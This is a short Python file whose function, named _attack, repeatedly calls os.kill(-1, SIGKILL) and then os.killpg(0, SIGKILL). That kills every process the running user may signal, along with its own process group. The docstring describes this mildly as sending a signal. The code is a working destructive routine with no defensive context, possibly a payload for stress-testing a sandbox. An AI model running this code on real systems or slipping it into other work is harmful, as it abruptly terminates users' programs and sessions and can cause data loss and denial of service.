"""Sends a signal to every process that it may send one to."""

import os
import signal


def _attack(messages):
    for _ in range(3):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            continue
    os.killpg(0, signal.SIGKILL)
